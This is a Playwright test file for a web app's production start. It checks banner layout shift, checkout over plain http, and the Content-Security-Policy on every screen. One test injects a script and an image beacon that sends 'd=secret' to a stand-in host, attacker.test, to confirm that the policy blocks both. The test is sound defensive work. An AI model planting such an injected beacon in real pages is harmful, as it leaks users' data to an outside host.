import { bearer } from '@wingmate/api/testing';
import type { BrowserContext } from 'playwright-core';
import { expectNoAxeViolations } from './support/axe';
import { chromiumAvailable, launchChromium } from './support/browser';
import { enterCard, VISA } from './support/card';
import { policyViolationsOf, recordPolicyViolations } from './support/content-security';
import { seededBannerId } from './support/frame-setup';
import { emailMember, signInBrowser, type MemberTokens } from './support/members';
import { layoutShiftSince, observeLayoutShifts } from './support/layout-shifts';
import { chooseNecessaryCookies, dismissBanner, newBrowserContext, openPage } from './support/pages';
import { startProductionStart } from './support/product';
import { sendAndReadReply } from './support/replies';
import { saveScreenshot } from './support/screenshots';
import { setUpBrowserSuite } from './support/suite';
import { everyScreenPath } from './support/web-screens';

const describeInBrowser = chromiumAvailable() ? describe : describe.skip;

interface PlanSummary {
  id: number;
  plan_type: string;
  price: number;
  messages: number | null;
}

describeInBrowser('the page of the production start (the API serving the web build on its own port)', () => {
  const suite = setUpBrowserSuite(startProductionStart);

  /** The smallest message pack of the catalogue. */
  async function cheapestPack(): Promise<PlanSummary> {
    const response = await suite.product.api.app.inject({ method: 'GET', url: '/api/v1/memberships/plans/' });
    const packs = response
      .json<{ results: PlanSummary[] }>()
      .results.filter((plan) => plan.plan_type === 'metered');
    return packs.sort((a, b) => a.price - b.price)[0]!;
  }

  /** The member's messages left, as the API answers them. */
  async function remainingOf(member: MemberTokens): Promise<number> {
    const response = await suite.product.api.app.inject({
      method: 'GET',
      url: '/api/v1/user/info/',
      headers: bearer(member),
    });
    return response.json<{ remaining_messages: number }>().remaining_messages;
  }

  it('draws the rebrand banner with the first paint, so nothing moves when the notices call answers', async () => {
    const context = await suite.newContext();
    await chooseNecessaryCookies(context);
    await observeLayoutShifts(context);
    const { page } = await openPage(context, `${suite.product.webUrl}/pricing`, { consoleErrors: true });
    const banner = page.getByRole('region', { name: 'Announcement' });
    await banner.waitFor();
    expect(await banner.textContent()).toContain('Welcome to Wingmate');
    // The lists come with the services and the plans; the notices call has answered by the time the page is idle.
    await page.getByRole('heading', { level: 2, name: 'Plans' }).waitFor();
    await page.waitForLoadState('networkidle');
    expect(await layoutShiftSince(page, 0)).toBe(0);
    await saveScreenshot(page, 'production-start-pricing-banner');
    await expectNoAxeViolations(page, 'production start: /pricing with the rebrand banner');
  });

  it('works on a hostname that is not a secure context: a visitor is answered and a member buys a pack', async () => {
    // Plain http on a name (a staging box, a phone on the local network): no crypto.randomUUID, no Web Locks.
    const origin = `http://wingmate.test:${new URL(suite.product.webUrl).port}`;
    const browser = await launchChromium({
      extraArgs: ['--host-resolver-rules=MAP wingmate.test 127.0.0.1'],
      fullBrowser: true,
    });
    try {
      const context = await newBrowserContext(browser);
      await context.addCookies([
        { name: 'abtests', value: encodeURIComponent('{"abtest_verification":"after_free"}'), url: origin },
      ]);
      await chooseNecessaryCookies(context);
      await dismissBanner(context, await seededBannerId(suite.product));
      const { page, errors } = await openPage(context, `${origin}/chat`, { heading: 'Chat' });
      expect(await page.evaluate(() => window.isSecureContext)).toBe(false);
      await sendAndReadReply(page, 'Help me write an opener');

      const member = await emailMember(suite.product, { emailPrefix: 'e2e-insecure' });
      await signInBrowser(context, origin, member);
      const pack = await cheapestPack();
      const before = await remainingOf(member);
      await page.goto(`${origin}/checkout/${pack.id}`);
      await page.getByRole('heading', { level: 1, name: 'Checkout' }).waitFor();
      await enterCard(page, VISA);
      await page.getByRole('button', { name: 'Pay' }).click();
      await page.getByRole('heading', { level: 1, name: 'Payment received' }).waitFor();
      await page.waitForFunction(
        (count) => document.querySelector('[data-testid="remaining-messages"]')?.textContent === count,
        String(before + (pack.messages ?? 0)),
      );
      expect(errors).toEqual([]);
    } finally {
      await browser.close();
    }
  });

  // The pages' Content-Security-Policy (docs/decisions.md#content-security-policy-of-the-production-start).
  describe('the Content-Security-Policy', () => {
    /** The first questionnaire the API lists (the seeds make two). */
    async function firstQuestionnaireId(): Promise<number> {
      const response = await suite.product.api.app.inject({
        method: 'GET',
        url: '/api/v1/accounts/questionnaires/?uid=0f9d3c2e-5b7a-4e11-8c3d-2a1b0c9d8e7f',
      });
      return response.json<{ results: { id: number }[] }>().results[0]!.id;
    }

    /**
     * Opens `path` in a new page of `context`, waits until it has drawn and loaded all it loads, and expects the
     * page to have come with the policy and to have broken none of it. Answers the path the page ended on (a
     * members-only screen sends a visitor to sign in).
     */
    async function visitWithoutViolations(context: BrowserContext, path: string): Promise<string> {
      const page = await context.newPage();
      const consoleLines: string[] = [];
      page.on('console', (message) => consoleLines.push(message.text()));
      try {
        const response = await page.goto(`${suite.product.webUrl}${path}`);
        expect(response?.headers()['content-security-policy']).toMatch(/script-src 'self' 'sha256-/);
        await page.waitForFunction(() => document.documentElement.classList.contains('fonts-ready'));
        await page.getByRole('heading', { level: 1 }).first().waitFor();
        await page.waitForLoadState('networkidle');
        expect({ path, violations: await policyViolationsOf(page, consoleLines) }).toEqual({
          path,
          violations: [],
        });
        return new URL(page.url()).pathname;
      } finally {
        await page.close();
      }
    }

    it('opens every screen of the route table, as a visitor and as a member where it wants one, with no violation', async () => {
      const paths = everyScreenPath({ planId: (await cheapestPack()).id, id: await firstQuestionnaireId() });
      expect(paths).toEqual(
        expect.arrayContaining([
          '/',
          '/chat',
          '/verify',
          '/bio/photos',
          '/checkout/top-up',
          '/no-such-screen',
        ]),
      );
      const visitor = await suite.newContext();
      await recordPolicyViolations(visitor);
      const member = await suite.newContext();
      await recordPolicyViolations(member);
      await signInBrowser(
        member,
        suite.product.webUrl,
        await emailMember(suite.product, { emailPrefix: 'e2e-policy' }),
      );
      const asMember: string[] = [];
      for (const path of paths) {
        const landed = await visitWithoutViolations(visitor, path);
        if (landed !== path) {
          asMember.push(path);
          await visitWithoutViolations(member, path);
        }
      }
      // The members-only screens were seen as their members see them.
      expect(asMember).toEqual(expect.arrayContaining(['/account', '/checkout/top-up']));
    });

    it("serves the API reference at /docs under its own policy: an operation opens on its response's fields", async () => {
      const context = await suite.newContext();
      await recordPolicyViolations(context);
      const page = await context.newPage();
      const consoleLines: string[] = [];
      page.on('console', (message) => consoleLines.push(message.text()));
      const response = await page.goto(`${suite.product.webUrl}/docs`);
      // docs/decisions.md#the-api-reference: scripts from our origin only, none inline.
      expect(response?.headers()['content-security-policy']).toMatch(/script-src 'self';/);
      const userInfo = page.locator('.opblock-get', {
        has: page.locator('[data-path="/api/v1/user/info/"]'),
      });
      await userInfo.locator('.opblock-summary-control').click();
      // The 200 answer's example, drawn from its response schema.
      await userInfo.locator('.responses-wrapper').getByText('remaining_messages').first().waitFor();
      expect(await policyViolationsOf(page, consoleLines)).toEqual([]);
    });

    it('refuses a script and a remote image the page did not bring, and reports both', async () => {
      const context = await suite.newContext();
      await recordPolicyViolations(context);
      await chooseNecessaryCookies(context);
      const { page } = await openPage(context, `${suite.product.webUrl}/chat`, { heading: 'Chat' });
      // A request the policy refuses never reaches the network, where this route would see it.
      const outside: string[] = [];
      await context.route('http://attacker.test/**', (route) => {
        outside.push(route.request().url());
        return route.abort();
      });
      const ran = await page.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'window.name = "injected"';
        document.head.append(script);
        const image = new Image();
        image.src = 'http://attacker.test/pixel.png?d=secret';
        document.body.append(image);
        return window.name === 'injected';
      });
      expect(ran).toBe(false);
      await page.waitForFunction(() => (window.__policyViolations ?? []).length >= 2);
      const directives = (await policyViolationsOf(page, [])).map((violation) => violation.directive);
      expect(directives).toEqual(expect.arrayContaining(['script-src-elem', 'img-src']));
      expect(outside).toEqual([]);
    });
  });
});
